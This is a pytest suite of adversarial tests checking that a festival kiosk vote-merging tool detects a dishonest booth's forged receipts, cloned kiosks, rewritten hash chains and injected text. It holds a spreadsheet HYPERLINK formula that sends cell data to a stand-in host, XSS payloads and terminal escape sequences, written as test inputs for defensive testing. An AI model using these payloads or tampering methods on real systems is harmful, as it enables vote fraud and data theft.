"""Round 2: a dishonest booth operator who has read the trust model (issue #13).

Same rules as `test_attacks.py`: each attack is played on a copy of the honest
eight-booth festival and must end detected and named, `kiosk merge` exiting
non-zero, and every honest booth's figures exactly what plain SQL over its own
file says. A test marked `finding` is an attack that gets through today (strict
xfail: remove the marker with the fix).
"""

from __future__ import annotations

import shutil
import sqlite3
import uuid
from pathlib import Path

import pytest
from click.testing import CliRunner

from kiosk.cli import main
from tests.attacks import tools
from tests.attacks import tools_round2 as t2
from tests.attacks.festival import (
    BOOTHS,
    Desk,
    HonestFestival,
    pack_owners,
    receipts_by_booth,
    votes_by_innovation,
)
from tests.attacks.organizers import Outcome, assert_honest_booths_unchanged, merge

pytestmark = pytest.mark.slow

ATTACKER = "DINKOMINFO"
RIVAL = "DPUPR"
HONEST = [a for a in BOOTHS if a != ATTACKER]
HONEST_BUT_RIVAL = [a for a in HONEST if a != RIVAL]


def finding(why: str) -> pytest.MarkDecorator:
    """An attack that gets through today. Strict: the test fails the suite the day the
    attack is stopped, so the marker goes with the fix (raises=AssertionError: a crash of
    the test itself is not the expected failure; a crash of the merge is asserted on)."""
    return pytest.mark.xfail(strict=True, raises=AssertionError, reason=f"round 2 (#13): {why}")


def first_innovation(festival: HonestFestival, agency: str) -> str:
    return next(slug for slug, owner in pack_owners(festival).items() if owner == agency)


def attackers_live_copy(desk: Desk) -> Path:
    live = desk.root / "attacker-live.sqlite"
    shutil.copy(desk.festival.live[ATTACKER], live)
    return live


def hand_over_with_receipt(desk: Desk, live: Path, target: Path | None = None) -> str:
    """The attacker's export onto the stick and the closing receipt its screen shows."""
    handed = tools.hand_over(live, target or desk.files[ATTACKER])
    return tools.closing_receipt(handed, ATTACKER)


def statuses(outcome: Outcome) -> dict[str, tuple[str, int]]:
    """file name -> (status, records added): printed when an assertion fails."""
    return {
        Path(r["path"]).name: (r["status"], r["records_added"]) for r in outcome.figures["sources"]
    }


def assert_own_votes_only(outcome: Outcome, desk: Desk, agency: str) -> None:
    """`agency`'s innovations: exactly the votes of its own rostered, receipted file."""
    counted = {r["innovation_slug"]: r["valid_votes"] for r in outcome.figures["ranking"]}
    truth = votes_by_innovation(desk.festival.exports[agency])
    for slug, owner in pack_owners(desk.festival).items():
        if owner == agency:
            assert counted.get(slug, 0) == truth[slug], f"{slug}: {counted.get(slug)} counted"


# --- Receipts are what a screen shows: the attacker's screen can show any -------------


@pytest.mark.parametrize("kind", ["spot", "close"])
def test_a_forged_receipt_for_a_rivals_kiosk_does_not_knock_the_rival_out(
    desk: Desk, kind: str
) -> None:
    """The attacker's booth screen shows a receipt QR for the rival's kiosk id (printed on
    every receipt the rival shows) with a made-up head; the organizer walking the festival
    photographs it with the others."""
    rival = desk.festival.kiosk_ids[RIVAL]
    forged = t2.forged_receipt(
        kind,
        rival,
        RIVAL,
        count=5,
        last_seq=5,
        head_hash=t2.fake_hash("forged"),
        file_sha256=t2.fake_hash("file") if kind == "close" else "",
        at=t2.receipt_field(desk.festival.spots[RIVAL], "at"),
    )
    # The organizer keeps the photos in one folder per booth: this one was taken at the
    # attacker's booth, whatever kiosk it names.
    folders = receipts_by_booth(desk, shown_at={ATTACKER: [forged]})
    outcome = merge(desk, receipts=folders)
    assert outcome.merge.exit_code != 0, statuses(outcome)
    assert f"read in {ATTACKER.lower()}'s folder" in outcome.said()
    assert_honest_booths_unchanged(outcome, desk, BOOTHS)
    assert outcome.source(desk.files[RIVAL])["status"] == "accepted"


def test_without_photo_folders_a_forged_receipt_holds_the_rival_and_says_so(desk: Desk) -> None:
    """The same forged receipt among the organizers' lines with nothing saying where it was
    photographed: the merge cannot tell a forged receipt from a rewritten file, so it holds
    the rival's file (never counts the attacker's word against it silently) and names the
    contradiction for the organizers to settle."""
    forged = t2.forged_receipt(
        "spot",
        desk.festival.kiosk_ids[RIVAL],
        RIVAL,
        count=5,
        last_seq=5,
        head_hash=t2.fake_hash("forged"),
        at=t2.receipt_field(desk.festival.spots[RIVAL], "at"),
    )
    outcome = merge(desk, receipts=desk.receipts_file(extra=[forged]))
    assert outcome.merge.exit_code == 3
    verdict = outcome.source(desk.files[RIVAL])
    assert verdict["status"] == "receipt_conflict"
    assert "contradict each other" in verdict["detail"]
    assert_honest_booths_unchanged(outcome, desk, HONEST_BUT_RIVAL)


def test_conflicting_opening_receipts_do_not_unbind_the_roster(desk: Desk) -> None:
    """A forged opening receipt for the rival's kiosk (the attacker's chain start) plus a
    forged closing receipt for a short file made with the rival's kiosk id."""
    rival = desk.festival.kiosk_ids[RIVAL]
    live = tools.booth_file(
        desk.root / "fake" / "booth.sqlite", desk.festival.pack, RIVAL, rival, 8, seed=41
    )
    fake = tools.hand_over(live, desk.stick / "gerai-dpupr-2.sqlite")
    opening = t2.forged_receipt(
        "open",
        rival,
        RIVAL,
        pack_sha256=t2.receipt_field(desk.festival.opening[RIVAL], "pack"),
        first_hash=t2.first_hash(fake),
        at=t2.receipt_field(desk.festival.opening[RIVAL], "at"),
    )
    closing = tools.closing_receipt(fake, RIVAL)
    folders = receipts_by_booth(desk, shown_at={ATTACKER: [opening, closing]})
    outcome = merge(desk, receipts=folders)
    assert outcome.merge.exit_code != 0, statuses(outcome)
    verdicts = statuses(outcome)
    assert outcome.source(fake)["records_added"] == 0, verdicts
    assert outcome.source(desk.files[RIVAL])["status"] == "accepted", verdicts
    assert f"read in {ATTACKER.lower()}'s folder" in outcome.said(), verdicts
    # Without folders the two opening receipts contradict each other: named, nothing counted.
    held = merge(desk, receipts=desk.receipts_file(extra=[opening, closing]), out_name="b.sqlite")
    assert held.source(desk.files[RIVAL])["status"] == "receipt_conflict"
    assert "opening receipts" in held.said()
    assert held.source(fake)["records_added"] == 0
    assert_honest_booths_unchanged(outcome, desk, BOOTHS)


def test_a_receipt_with_an_absurd_number_is_named_not_a_crash(desk: Desk) -> None:
    """One photographed QR with a sequence number SQLite cannot store."""
    forged = t2.forged_receipt(
        "spot",
        desk.festival.kiosk_ids[ATTACKER],
        ATTACKER,
        count=1,
        last_seq=10**20,
        head_hash=t2.fake_hash("x"),
        at="2026-08-20T10:00:00Z",
    )
    outcome = merge(desk, receipts=desk.receipts_file(extra=[forged]))
    assert outcome.merge.exception is None or isinstance(outcome.merge.exception, SystemExit)
    assert outcome.merge.exit_code == 3, outcome.said()
    assert str(10**20) in outcome.said()
    assert_honest_booths_unchanged(outcome, desk, BOOTHS)


# --- Kiosks the roster does not know --------------------------------------------------


@pytest.mark.parametrize("receipted", [False, True], ids=["no-closing", "own-closing-receipt"])
def test_a_second_unrostered_kiosk_of_the_attackers_agency_does_not_count(
    desk: Desk, receipted: bool
) -> None:
    """A copy of the attacker's booth turned into a second kiosk (new id, fresh UUIDs):
    the same visitors counted twice. With `receipted`, the booth also showed its closing
    receipt at hand-over, and the organizer photographed it like the others."""
    twin = desk.root / "twin" / "booth.sqlite"
    twin.parent.mkdir()
    shutil.copy(desk.festival.live[ATTACKER], twin)
    t2.second_kiosk(twin, str(uuid.uuid4()))
    handed = tools.hand_over(twin, desk.stick / "gerai-dinkominfo-2.sqlite")
    extra = [tools.closing_receipt(handed, ATTACKER)] if receipted else []
    outcome = merge(desk, receipts=desk.receipts_file(extra=extra))
    assert outcome.merge.exit_code != 0, statuses(outcome)
    assert outcome.source(handed)["records_added"] == 0, statuses(outcome)
    assert_own_votes_only(outcome, desk, ATTACKER)
    assert_honest_booths_unchanged(outcome, desk, HONEST)


@pytest.mark.parametrize("receipted", [False, True], ids=["unrostered", "forged-receipts"])
def test_a_second_kiosk_claiming_a_rivals_agency_changes_nothing_of_the_rival(
    desk: Desk, receipted: bool
) -> None:
    """A new kiosk id that says it is the rival's (agency DPUPR): a burst of votes for the
    rival's innovation (so the rival looks like the cheat) and many extra sessions (so its
    votes per 100 sessions drop). With `receipted`, the attacker's screen also showed an
    opening and a closing receipt for that kiosk, photographed with the others."""
    fake_id = str(uuid.uuid4())
    live = desk.root / "frame" / "booth.sqlite"
    tools.booth_file(live, desk.festival.pack, RIVAL, fake_id, 80, 43)
    t2.rule_breaking_votes(live, first_innovation(desk.festival, RIVAL), "one_session", 60)
    framed = tools.hand_over(live, desk.stick / "gerai-dpupr-cadangan.sqlite")
    extra = []
    if receipted:
        extra = [
            t2.forged_receipt(
                "open",
                fake_id,
                RIVAL,
                booth=t2.receipt_field(desk.festival.opening[RIVAL], "booth"),
                pack_sha256=t2.receipt_field(desk.festival.opening[RIVAL], "pack"),
                first_hash=t2.first_hash(framed),
                at=t2.receipt_field(desk.festival.opening[RIVAL], "at"),
            ),
            tools.closing_receipt(framed, RIVAL),
        ]
    outcome = merge(desk, receipts=receipts_by_booth(desk, shown_at={ATTACKER: extra}))
    assert outcome.merge.exit_code != 0, statuses(outcome)
    assert outcome.source(framed)["records_added"] == 0, statuses(outcome)
    assert_honest_booths_unchanged(outcome, desk, BOOTHS)
    conn = sqlite3.connect(desk.festival.exports[RIVAL])
    sessions = conn.execute(
        "SELECT count(*) FROM visitor_records WHERE kind = 'session_start'"
    ).fetchone()[0]
    conn.close()
    rows = [r for r in outcome.figures["ranking"] if r["agency_code"] == RIVAL]
    assert {r["booth_sessions"] for r in rows} == {sessions}
    assert not any(r["flagged_votes"] for r in rows), rows


# --- Records that collide with another kiosk's ---------------------------------------


def test_reusing_a_rivals_record_uuid_neither_crashes_nor_knocks_out(desk: Desk) -> None:
    """One record of the attacker's (after its spot check, before closing) carries the UUID
    of one of the rival's votes; the attacker's chain is intact and fully receipted."""
    stolen = t2.record_uuids(desk.festival.exports[RIVAL])[0]
    live = attackers_live_copy(desk)
    spot = int(t2.receipt_field(desk.festival.spots[ATTACKER], "last_seq"))

    def reuse(rows: list[t2.Row]) -> list[t2.Row]:
        target = next(r for r in rows if r["seq"] > spot and r["kind"] == "vote")
        target["uuid"] = stolen
        return rows

    t2.rewrite_chain(live, reuse)
    closing = hand_over_with_receipt(desk, live)
    outcome = merge(desk, receipts=desk.receipts_file(leave_out=[ATTACKER], extra=[closing]))
    assert outcome.merge.exception is None or isinstance(outcome.merge.exception, SystemExit)
    assert outcome.merge.exit_code == 3, outcome.said()
    assert stolen[:8] in outcome.said()
    assert_honest_booths_unchanged(outcome, desk, HONEST)


def test_a_twin_with_the_same_uuids_under_a_new_kiosk_id_is_not_a_crash(desk: Desk) -> None:
    """A copy of the attacker's file re-chained under a new kiosk id, UUIDs kept."""
    twin = desk.root / "twin" / "booth.sqlite"
    twin.parent.mkdir()
    shutil.copy(desk.files[ATTACKER], twin)
    new_id = str(uuid.uuid4())
    t2.set_in_file(twin, "UPDATE kiosk SET kiosk_id = ?", [new_id])

    def move(rows: list[t2.Row]) -> list[t2.Row]:
        for row in rows:
            row["kiosk_id"] = new_id
        return rows

    t2.rewrite_chain(twin, move)
    handed = shutil.copy(twin, desk.stick / "gerai-dinkominfo-kembar.sqlite")
    outcome = merge(desk, receipts=desk.receipts_file())
    assert outcome.merge.exception is None or isinstance(outcome.merge.exception, SystemExit)
    assert outcome.merge.exit_code == 3, outcome.said()
    assert outcome.source(Path(handed))["records_added"] == 0
    assert_honest_booths_unchanged(outcome, desk, BOOTHS)


def test_records_naming_a_rivals_kiosk_inside_the_attackers_file_count_for_nobody(
    desk: Desk,
) -> None:
    """The attacker's file, re-chained: its last 20 records name the rival's kiosk id (so
    they might land in the rival's chain and contradict its receipts)."""
    rival = desk.festival.kiosk_ids[RIVAL]

    def disguise(rows: list[t2.Row]) -> list[t2.Row]:
        for row in rows[-20:]:
            row["kiosk_id"] = rival
        return rows

    t2.rewrite_chain(desk.files[ATTACKER], disguise)
    outcome = merge(desk, receipts=desk.receipts_file())
    assert outcome.merge.exit_code != 0, statuses(outcome)
    assert outcome.source(desk.files[ATTACKER])["status"] in ("chain_broken", "receipt_mismatch")
    assert outcome.source(desk.files[RIVAL])["status"] == "accepted"
    assert_honest_booths_unchanged(outcome, desk, HONEST)


# --- One file that stops everybody's merge -------------------------------------------


@pytest.mark.parametrize(
    "how",
    [
        "idle_seconds-text",
        "max_votes-text",
        "no-innovations-table",
        "recorded_at-garbage",
        "monotonic-text",
    ],
)
def test_one_odd_booth_file_does_not_stop_the_festivals_merge(desk: Desk, how: str) -> None:
    """Values the booth's own schema allows but no kiosk writes, in the attacker's file:
    its festival row (edited after closing: no record changes) or one record after its
    spot check (re-chained before its closing receipt)."""
    target = desk.files[ATTACKER]
    extra: list[str] = []
    leave_out: list[str] = []
    if how == "idle_seconds-text":
        t2.set_in_file(target, "UPDATE festival SET idle_seconds = 'lama'")
    elif how == "max_votes-text":
        t2.set_in_file(target, "UPDATE festival SET max_votes_per_session = 'tiga'")
    elif how == "no-innovations-table":
        t2.set_in_file(target, "ALTER TABLE innovations RENAME TO inovasi")
    else:
        live = attackers_live_copy(desk)
        spot = int(t2.receipt_field(desk.festival.spots[ATTACKER], "last_seq"))

        def odd(rows: list[t2.Row]) -> list[t2.Row]:
            row = next(r for r in rows if r["seq"] > spot + 3)
            if how == "recorded_at-garbage":
                row["recorded_at"] = "kemarin sore"
            else:
                row["monotonic_ns"] = f"{row['monotonic_ns']}ns"  # text SQLite cannot coerce
            return rows

        t2.rewrite_chain(live, odd)
        extra, leave_out = [hand_over_with_receipt(desk, live)], [ATTACKER]
    outcome = merge(desk, receipts=desk.receipts_file(leave_out=leave_out, extra=extra))
    assert outcome.merge.exception is None or isinstance(outcome.merge.exception, SystemExit), repr(
        outcome.merge.exception
    )
    assert outcome.merge.exit_code == 3, outcome.said()
    assert_honest_booths_unchanged(outcome, desk, HONEST)


def test_hundreds_of_impostor_files_do_not_stop_the_merge(desk: Desk) -> None:
    """300 small files (photo cache emptied) that claim the rival's kiosk, on the attacker's
    stick, merged on an organizer's laptop that allows 256 open files per process (the
    macOS default)."""
    import resource

    rival = desk.festival.kiosk_ids[RIVAL]
    live = tools.booth_file(
        desk.root / "fake" / "booth.sqlite", desk.festival.pack, RIVAL, rival, 3, seed=51
    )
    small = tools.hand_over(live, desk.root / "small.sqlite")
    copies = t2.small_copies(small, desk.stick / "impostors", 300)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (256, hard))
    try:
        outcome = merge(desk, receipts=desk.receipts_file())
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    assert outcome.merge.exception is None or isinstance(outcome.merge.exception, SystemExit), repr(
        outcome.merge.exception
    )
    assert outcome.merge.exit_code == 3, outcome.said()
    assert outcome.source(copies[0])["status"] == "impostor"
    assert_honest_booths_unchanged(outcome, desk, BOOTHS)


# --- Votes the pack's rules forbid on their face -------------------------------------


@pytest.mark.parametrize("how", ["one_session"])
def test_votes_that_break_the_packs_rules_do_not_count(desk: Desk, how: str) -> None:
    """Before the closing receipt (so every receipt holds): 30 votes for the attacker's own
    innovation that no visitor could have cast under the pack's rules: all in one session
    with no dwell and no session start, or one per session at 02:00 local time."""
    live = attackers_live_copy(desk)
    t2.rule_breaking_votes(live, first_innovation(desk.festival, ATTACKER), how, 30)
    closing = hand_over_with_receipt(desk, live)
    outcome = merge(desk, receipts=desk.receipts_file(leave_out=[ATTACKER], extra=[closing]))
    assert outcome.merge.exit_code != 0, statuses(outcome)
    assert_own_votes_only(outcome, desk, ATTACKER)
    assert_honest_booths_unchanged(outcome, desk, HONEST)


def test_votes_at_night_are_flagged_beside_the_ranking(desk: Desk) -> None:
    """One vote per visit at 02:00 local: the kiosk as shipped accepts votes at any hour (a
    booth left on at night), so they are counted, flagged `outside_hours` on the attacker's
    innovation (or `outside_days`), and the sensitivity line says what leaving them out
    would change (#14)."""
    live = attackers_live_copy(desk)
    slug = first_innovation(desk.festival, ATTACKER)
    t2.rule_breaking_votes(live, slug, "at_night", 30)
    closing = hand_over_with_receipt(desk, live)
    outcome = merge(desk, receipts=desk.receipts_file(leave_out=[ATTACKER], extra=[closing]))
    row = next(r for r in outcome.figures["ranking"] if r["innovation_slug"] == slug)
    assert "outside_hours:30" in row["flags"] or "outside_days:30" in row["flags"], row
    assert row["rank_without_flagged"] > row["rank"]
    assert_honest_booths_unchanged(outcome, desk, HONEST)


def test_the_booths_own_rules_do_not_decide_its_anomaly_flags(desk: Desk) -> None:
    """The same 30 votes in one session; after closing, the file's festival row says a
    session may hold 1000 votes (a content edit only: no record changes). The long-run
    watch must judge the file by the pack's 3 votes per session, not the file's."""
    live = attackers_live_copy(desk)
    t2.rule_breaking_votes(live, first_innovation(desk.festival, ATTACKER), "one_session", 30)
    closing = hand_over_with_receipt(desk, live)
    t2.set_in_file(desk.files[ATTACKER], "UPDATE festival SET max_votes_per_session = 1000")
    outcome = merge(desk, receipts=desk.receipts_file(leave_out=[ATTACKER], extra=[closing]))
    assert outcome.merge.exit_code != 0, statuses(outcome)
    flags = {(a["flag"], a["agency_code"]) for a in outcome.figures["anomalies"]}
    assert ("long_run", ATTACKER) in flags, flags  # judged by the pack's 3 votes a session
    assert_own_votes_only(outcome, desk, ATTACKER)  # and refused outright by its rules


def test_votes_for_an_innovation_not_in_the_pack_are_listed_not_ranked(desk: Desk) -> None:
    live = attackers_live_copy(desk)
    tools.forge_votes(live, "inovasi-siluman", votes=15)
    closing = hand_over_with_receipt(desk, live)
    outcome = merge(desk, receipts=desk.receipts_file(leave_out=[ATTACKER], extra=[closing]))
    figures = outcome.figures
    assert "inovasi-siluman" not in {r["innovation_slug"] for r in figures["ranking"]}
    reasons = {e["reason"]: e["votes"] for e in figures["excluded"]}
    assert reasons["vote for an innovation not in the festival pack"] == 15
    assert_honest_booths_unchanged(outcome, desk, BOOTHS)


# --- Text a booth controls, in the organizers' tools ---------------------------------


def test_a_comment_is_not_a_formula_in_the_reports_csv(desk: Desk) -> None:
    """A comment typed at the booth that a spreadsheet would run as a formula."""
    payload = '=HYPERLINK("http://contoh.invalid/?x="&A1,"Lihat foto")'
    live = attackers_live_copy(desk)
    t2.leave_feedback(live, payload)
    closing = hand_over_with_receipt(desk, live)
    outcome = merge(desk, receipts=desk.receipts_file(leave_out=[ATTACKER], extra=[closing]))
    report = CliRunner().invoke(main, ["report", str(outcome.out), "--out", str(desk.root / "r")])
    assert report.exit_code == 0, report.output
    cells = []
    for csv_file in sorted((desk.root / "r").glob("*.csv")):
        text = csv_file.read_text(encoding="utf-8-sig")
        cells += [c for c in text.replace("\n", ",").split(",") if "HYPERLINK" in c]
    assert cells, "the comment is not in any CSV"
    for cell in cells:
        assert not cell.lstrip('"').startswith(("=", "+", "-", "@")), cell


def test_a_comment_with_markup_is_text_in_the_report(desk: Desk) -> None:
    payload = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
    live = attackers_live_copy(desk)
    t2.leave_feedback(live, payload)
    closing = hand_over_with_receipt(desk, live)
    outcome = merge(desk, receipts=desk.receipts_file(leave_out=[ATTACKER], extra=[closing]))
    report = CliRunner().invoke(main, ["report", str(outcome.out), "--out", str(desk.root / "r")])
    assert report.exit_code == 0, report.output
    page = (desk.root / "r" / "report.html").read_text(encoding="utf-8")
    assert "<script>alert(2)" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(2)" in page  # shown, as text


def test_a_kiosk_id_with_escapes_and_markup_reaches_no_terminal_or_page(desk: Desk) -> None:
    evil = "\x1b]2;DIRETAS\x07\x1b[2J<script>alert(1)</script>"
    live = tools.booth_file(
        desk.root / "evil" / "booth.sqlite", desk.festival.pack, ATTACKER, evil, 5, seed=47
    )
    tools.hand_over(live, desk.stick / "gerai-evil.sqlite")
    outcome = merge(desk, receipts=desk.receipts_file())
    assert "\x1b" not in outcome.merge.output + (outcome.merge.stderr or "")
    shown = CliRunner().invoke(main, ["results", str(outcome.out)])
    assert "\x1b" not in shown.output
    report = CliRunner().invoke(main, ["report", str(outcome.out), "--out", str(desk.root / "r")])
    assert report.exit_code == 0, report.output
    assert "<script>alert" not in (desk.root / "r" / "report.html").read_text(encoding="utf-8")
    assert_honest_booths_unchanged(outcome, desk, HONEST)


# --- An earlier merge, judged again with a receipt that came later --------------------


def test_a_forged_receipt_given_later_does_not_trim_a_rival_merged_before(desk: Desk) -> None:
    first = merge(desk, receipts=desk.receipts_file())
    assert first.merge.exit_code == 0, first.said()
    forged = t2.forged_receipt(
        "spot",
        desk.festival.kiosk_ids[RIVAL],
        RIVAL,
        count=3,
        last_seq=3,
        head_hash=t2.fake_hash("later"),
        at=t2.receipt_field(desk.festival.spots[RIVAL], "at"),
    )
    later_receipts = desk.root / "foto-susulan" / ATTACKER / "struk.txt"  # at the attacker's
    later_receipts.parent.mkdir(parents=True)
    later_receipts.write_text(forged + "\n", encoding="utf-8")
    args = ["merge", "--out", str(first.out), "--receipts", str(later_receipts)]
    later = CliRunner().invoke(main, [*args, str(desk.files[ATTACKER])])
    assert later.exit_code != 0
    assert_honest_booths_unchanged(Outcome(later, first.out), desk, BOOTHS)


# --- Rewriting what no receipt can see any more --------------------------------------


def rechained_below_the_spot_check(desk: Desk, extra_votes: int) -> tuple[Path, int]:
    """The attacker's chain rewritten from record 2 with extra votes woven in and cut short
    of the midday spot check's sequence, so no receipt but the opening one (record 1,
    untouched) reaches into it. Returns the live file and the spot check's sequence."""
    live = attackers_live_copy(desk)
    spot = int(t2.receipt_field(desk.festival.spots[ATTACKER], "last_seq"))
    t2.rewrite_below(live, first_innovation(desk.festival, ATTACKER), extra_votes, spot)
    return live, spot


def assert_no_votes_beyond(outcome: Outcome, desk: Desk, spot: int) -> None:
    """The attacker's innovation: no more votes than its honest records before `spot` hold."""
    slug = first_innovation(desk.festival, ATTACKER)
    counted = {r["innovation_slug"]: r["valid_votes"] for r in outcome.figures["ranking"]}
    cast = votes_by_innovation(desk.festival.exports[ATTACKER], up_to_seq=spot - 1)[slug]
    assert counted.get(slug, 0) <= cast, f"{counted.get(slug)} counted, {cast} cast before {spot}"


def test_a_chain_rewritten_and_cut_below_the_spot_check_is_red(desk: Desk) -> None:
    """The file holds fewer records at closing than the spot check photographed at midday:
    whatever it holds was rewritten or removed since; its closing receipt (shown by the
    attacker's screen for this very file) agrees with it."""
    live, spot = rechained_below_the_spot_check(desk, extra_votes=50)
    closing = hand_over_with_receipt(desk, live)
    outcome = merge(desk, receipts=desk.receipts_file(leave_out=[ATTACKER], extra=[closing]))
    assert outcome.merge.exit_code != 0, statuses(outcome)
    verdict = outcome.source(desk.files[ATTACKER])
    assert verdict["status"] not in ("accepted", "extended", "no_receipt"), verdict
    assert str(spot) in verdict["detail"], verdict
    assert_no_votes_beyond(outcome, desk, spot)
    assert_honest_booths_unchanged(outcome, desk, HONEST)


def test_accept_valid_prefix_counts_no_rewritten_prefix(desk: Desk) -> None:
    """The same rewrite, hidden behind a chain break just before the spot check's sequence
    instead of a cut; the organizers then merge with --accept-valid-prefix, as the guide
    says for a damaged file, and the attacker's screen showed the closing receipt of the
    file as it is."""
    live, spot = rechained_below_the_spot_check(desk, extra_votes=50)
    more = desk.root / "more.sqlite"  # the afternoon, kept after the break
    shutil.copy(desk.festival.live[ATTACKER], more)
    handed = tools.hand_over(live, desk.files[ATTACKER])
    closing = tools.closing_receipt(handed, ATTACKER)
    conn = sqlite3.connect(handed)
    conn.execute("DROP TRIGGER IF EXISTS visitor_records_no_update")
    conn.execute(
        'UPDATE visitor_records SET data = replace(data, \'"lang":"id"\', \'"lang":"en"\')'
        " WHERE seq = (SELECT max(seq) FROM visitor_records WHERE kind = 'session_start')"
    )
    conn.commit()
    conn.close()
    outcome = merge(
        desk,
        receipts=desk.receipts_file(leave_out=[ATTACKER], extra=[closing]),
        extra=["--accept-valid-prefix"],
    )
    assert outcome.merge.exit_code != 0, statuses(outcome)
    assert_no_votes_beyond(outcome, desk, spot)
    assert str(spot) in outcome.source(handed)["detail"], statuses(outcome)
    assert_honest_booths_unchanged(outcome, desk, HONEST)
